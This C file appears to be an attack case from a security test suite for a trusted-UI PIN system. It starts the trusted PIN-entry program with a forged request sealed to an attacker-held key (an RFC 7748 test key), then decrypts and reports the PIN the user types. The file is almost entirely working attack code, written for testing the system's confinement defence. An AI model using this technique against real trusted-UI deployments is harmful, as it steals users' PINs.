// SPDX-License-Identifier: Apache-2.0
/*
 * Starts the listed program itself, with a request of its own, and reads the PIN from
 * its answer, which is sealed to the attacker's key: the trusted screen, the lamp, but
 * the attacker's question.
 *
 * attack: ree_starts_tui
 * class: system
 * when: own
 * judge: keys
 * unprotected: module
 * quick: yes
 * defence: confinement
 * why: a digest says what runs, not who asks; the module admits only who has CAP_SYS_ADMIN, which the REE lacks, as it does the node
 */
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "daemon/lib/sealed_pin.h"
#include "process.h"
#include "report.h"
#include "tui/protocol.h"
#include "tui/statement.h"

#define TUI	"/usr/sbin/tconn-tui"
#define TEXT	"PIN of the card that ends in 1234"

struct request {
	struct tconn_tui_request head;
	uint8_t magic[4];
	uint16_t version, kind;
	uint32_t text_len;
	uint16_t pin_min, pin_max;
	char text[sizeof(TEXT) - 1];
} __attribute__((packed));

/* Bob's of RFC 7748, section 6.1. */
static const uint8_t private_key[TCONN_HPKE_KEY] = {
	0x5d, 0xab, 0x08, 0x7e, 0x62, 0x4a, 0x8a, 0x4b, 0x79, 0xe1, 0x7f, 0x8b, 0x83, 0x80, 0x0e, 0xe6,
	0x6f, 0x3b, 0xb1, 0x29, 0x26, 0x18, 0xb6, 0xfd, 0x1c, 0x2f, 0x8b, 0x27, 0xff, 0x88, 0xe0, 0xeb,
};

static const struct request request = {
	.head = {
		.magic = "TCRQ",
		.version = TCONN_TUI_VERSION,
		.timeout_ms = 20000,
		.verifier_key = {
			0xde, 0x9e, 0xdb, 0x7d, 0x7b, 0x7d, 0xc1, 0xb4, 0xd3, 0x5b, 0x61, 0xc2,
			0xec, 0xe4, 0x35, 0x37, 0x3f, 0x83, 0x43, 0xc8, 0x5b, 0x78, 0x67, 0x4d,
			0xad, 0xfc, 0x7e, 0x14, 0x6f, 0x88, 0x2b, 0x4f,
		},
		.statement_len = TCONN_STATEMENT_HEADER + sizeof(TEXT) - 1,
	},
	.magic = "TCST",
	.version = 1,
	.kind = 2,
	.text_len = sizeof(TEXT) - 1,
	.pin_min = 4,
	.pin_max = 12,
	.text = TEXT,
};

static pid_t start(int in, int out)
{
	pid_t pid = fork();

	if (pid)
		return pid;
	dup2(in, STDIN_FILENO);
	dup2(out, STDOUT_FILENO);
	execl(TUI, TUI, (char *)NULL);
	_exit(127);
}

static size_t read_all(int fd, char *buf, size_t size)
{
	size_t len = 0;
	ssize_t got;

	while (len < size && !attack_stopping() && (got = read(fd, buf + len, size - len)) > 0)
		len += (size_t)got;
	return len;
}

/* A reply is its head, the record, what is sealed, a message. */
static void open_pin(const char *reply, size_t len)
{
	const struct tconn_pin_binding to = {
		.nonce = request.head.nonce,
		.statement = request.magic,
		.statement_len = request.head.statement_len,
		.record = (const struct tconn_record *)(reply + sizeof(struct tconn_tui_reply)),
	};
	const size_t at = sizeof(struct tconn_tui_reply) + sizeof(struct tconn_record);
	struct tconn_pin pin;

	if (len < at + TCONN_SEALED_PIN_SIZE)
		attack_note("it has no PIN");
	else if (tconn_pin_open((const uint8_t *)reply + at, TCONN_SEALED_PIN_SIZE, private_key,
				request.head.verifier_key, &to, &pin))
		attack_note("its PIN is sealed to another key");
	else
		process_report_digits(pin.digits, pin.len);
}

int main(void)
{
	char reply[4096];
	int in[2], out[2];
	size_t len;
	pid_t tui;

	attack_init();
	if (pipe(in) || pipe2(out, O_CLOEXEC))
		attack_failed("no pipes");
	if (write(in[1], &request, sizeof(request)) != sizeof(request))
		attack_failed("no request");
	close(in[1]);
	tui = start(in[0], out[1]);
	close(out[1]);
	attack_ready();
	len = read_all(out[0], reply, sizeof(reply));
	kill(tui, SIGKILL);
	open_pin(reply, len);
	attack_failed("this is all it was told");
}
